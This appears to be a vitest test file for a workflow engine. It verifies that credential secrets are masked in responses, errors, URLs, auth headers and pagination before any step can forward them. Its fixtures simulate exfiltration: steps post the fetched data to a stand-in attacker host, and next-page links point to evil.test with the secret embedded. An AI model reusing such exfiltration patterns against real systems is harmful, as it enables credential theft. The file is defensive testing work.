import { describe, expect, it } from 'vitest';
import type { Credential, Graph, HttpRequestTemplate, OutgoingRequest } from '#engine';
import { type Attack, attempt, BANK, CANARY, EVIL, post, shown, slot, step } from '../../support/attacks.js';
import { custom } from '../../support/credentials.js';
import { type Answer, failure, type HostOptions, httpStep, json, textReply } from '../../support/engine.js';
import { encoders } from '../../support/secret-encoders.js';

describe('an answer that repeats the secret', () => {
  /** Asks the bank with the secret, and posts what came of it to a stranger. */
  const relay = (taken: string, request: Partial<HttpRequestTemplate> = {}) => ({
    steps: [
      httpStep({
        id: 'a',
        request: { method: 'GET', url: `${BANK}/`, auth: slot, ...request },
        output: { all: '{{response}}' },
        retry: { attempts: 1 },
      }),
      step('b', post(`${EVIL}/`, taken)),
    ],
    edges: [
      { source: 'a', target: 'b' },
      { source: 'a', target: 'b', on: 'failure' },
    ],
  });

  async function expectHidden(attack: Attack) {
    const { leaks, strangers, result } = await attempt(attack);
    expect(result.status).toBe('succeeded');
    expect(strangers).toHaveLength(1);
    expect(leaks).toBe(false);
    expect(String(strangers[0]?.request.body)).toMatch(/••••|null/);
  }

  it.each(encoders)('[S24] is hidden before the next step reads it: $name', async ({ encode }) => {
    const written = encode(CANARY);
    for (const answer of [
      json({ you: written, list: [`x ${written} y`], [`key ${written}`]: 1 }),
      textReply(`you: ${written}`, 'text/plain'),
      textReply(`<p>${written}</p>`, 'text/html'),
      json('', 200, { 'x-echo': written.replace(/[^\u0020-\u007e]/g, encodeURIComponent) }),
    ])
      await expectHidden({ graph: relay('{{a}}'), bank: () => answer });
  });

  it.each(encoders)('[S24] is hidden in an error, and in what it says: $name', async ({ encode }) => {
    const written = encode(CANARY);
    for (const answer of [
      json({ message: `No access for ${written}.` }, 403),
      json({ error: { message: written } }, 400),
      textReply(written, 'application/json', 400),
      textReply(`{"broken": "${written}`, 'application/json'),
      textReply('', 'text/plain', 302, { location: `/x?${encodeURIComponent(written)}` }),
      { ...failure('connection_failed'), message: `Could not reach ${written}.` },
    ])
      await expectHidden({ graph: relay('{{error.message}} ••••'), bank: () => answer });
  });

  it('[S24] is hidden in an answer of bytes, wherever it begins in them', async () => {
    for (const before of ['', 'a', 'ab', 'abc']) {
      const answer = textReply(`${before}${CANARY}z`, 'application/octet-stream');
      await expectHidden({ graph: relay('{{a}}'), bank: () => answer });
    }
  });

  it('[S24] is hidden as the request has it in its URL, its form, its user and password', async () => {
    const echo = (request: OutgoingRequest) => json({ ...shown(request) });
    for (const request of [
      { url: `${BANK}/bot{{workspace.main}}/:id?q={{workspace.main}}`, path: { id: 'x{{workspace.main}}' } },
      {
        method: 'POST',
        body: { type: 'form', fields: { a: 'x {{workspace.main}} y', b: { c: '{{workspace.main}}' } } },
      },
      { method: 'POST', body: { type: 'multipart', fields: { a: '{{workspace.main}}' } } },
      { auth: { type: 'basic', username: '{{workspace.main}}', password: '' } },
      { auth: { type: 'basic', username: 'user', password: '{{workspace.main}}' } },
      { auth: { type: 'basic', username: '{{workspace.main}}', password: '{{workspace.main}}' } },
      { auth: { type: 'api_key', in: 'query', name: 'k', value: '{{workspace.main}}' } },
    ] satisfies Partial<HttpRequestTemplate>[])
      await expectHidden({ graph: relay('{{a}}', request), bank: echo });
  });

  it.each<[string, Partial<HttpRequestTemplate>, Partial<Credential>]>([
    ['as the credential says', {}, { use: { type: 'basic' }, fields: { username: 'user', password: 'abc' } }],
    [
      'as the request says',
      { auth: { type: 'basic', username: 'user', password: '{{workspace.main}}' } },
      { fields: { token: 'abc' } },
    ],
  ])(
    '[S24] is hidden beside its user, also where it is too short to be looked for: %s',
    async (_name, request, credential) => {
      const echo = (sent: OutgoingRequest) => json({ you: sent.headers.authorization ?? '' });
      const { host } = await attempt({ graph: relay('{{a}}', request), bank: echo, credential });
      expect(host.sent[0]?.request.headers.authorization).toBe(`Basic ${btoa('user:abc')}`);
      expect(JSON.parse(String(host.sent[1]?.request.body)).all.body).toEqual({
        you: expect.stringMatching(/^Basic ••••=?$/),
      });
    },
  );

  it('[S24] is hidden for all steps, also those that began before it was used', async () => {
    const flow: Graph = {
      steps: [
        step('plain', { url: `${BANK}/plain` }),
        step('secret', { url: `${BANK}/secret`, auth: slot }),
        step('b', post(`${EVIL}/`, '{{plain}}')),
      ],
      edges: [{ source: 'plain', target: 'b' }],
    };
    let release: (answer: Answer) => void = () => undefined;
    const late = new Promise<Answer>((resolve) => {
      release = resolve;
    });
    const options: HostOptions = {
      script(request) {
        if (request.url.endsWith('/plain')) return late;
        if (request.url.endsWith('/secret')) release(json({ you: CANARY }));
        return undefined;
      },
    };
    await expectHidden({ graph: flow, options });
  });

  it('[S24] is hidden field by field, but not the fields that are no secrets', async () => {
    const fields = { one: CANARY, two: 'another-secret', region: 'eu-west-1' };
    const credential = { ...custom(fields), plain: ['region'], hosts: ['bank.test'] };
    const { host } = await attempt({
      graph: relay('{{a}}', { auth: { type: 'bearer', token: '{{workspace.main.one}}' } }),
      credential,
      bank: () => json(fields),
    });
    expect(JSON.parse(String(host.sent[1]?.request.body)).all.body).toEqual({
      one: '••••',
      two: '••••',
      region: 'eu-west-1',
    });
  });

  it.each(['a b', '../../\\\\x', '//evil.test/{{response.body[0]}}', 'https://evil.test/x y', '?q=\u0001'])(
    '[S24] is hidden in what is said about a next page at %j',
    async (next) => {
      const url = `${BANK}/bot{{workspace.main}}/x`;
      const first = httpStep({
        id: 'a',
        request: { method: 'GET', url },
        pagination: { type: 'next_url', next, items: '{{response.body}}' },
      });
      const flow: Graph = {
        steps: [first, step('b', post(`${EVIL}/`, '{{error.message}}'))],
        edges: [{ source: 'a', target: 'b', on: 'failure' }],
      };
      const { leaks, strangers } = await attempt({ graph: flow, bank: () => json([1]) });
      expect([leaks, strangers.length]).toEqual([false, 1]);
    },
  );

  it('[S24] is hidden where an output puts it together from its halves, in a loop too', async () => {
    const halves = { left: CANARY.slice(0, 9), right: CANARY.slice(9) };
    const joined = { joined: '{{response.body.left}}{{response.body.right}}' };
    const bankStep = { ...step('a', { url: `${BANK}/`, auth: slot }), output: joined };
    const { leaks, strangers } = await attempt({
      graph: {
        steps: [
          bankStep,
          { ...bankStep, id: 'b', forEach: { items: [1] } },
          step('c', post(`${EVIL}/`, ['{{a.joined}}', '{{b[0].joined}}'])),
        ],
      },
      bank: () => json(halves),
    });
    expect(strangers.map(({ request }) => request.body)).toEqual(['["••••","••••"]']);
    expect(leaks).toBe(false);
  });

  it('[S24] leads to no other host where the next page is', async () => {
    let page = 0;
    const { strangers, leaks } = await attempt({
      graph: {
        steps: [
          httpStep({
            id: 'a',
            request: { method: 'GET', url: `${BANK}/`, auth: slot },
            pagination: { type: 'link_header', items: '{{response.body}}' },
          }),
        ],
      },
      bank: () => json([++page], 200, { link: `<${EVIL}/?k=${encodeURIComponent(CANARY)}>; rel="next"` }),
    });
    expect([strangers, leaks]).toEqual([[], false]);
  });
});
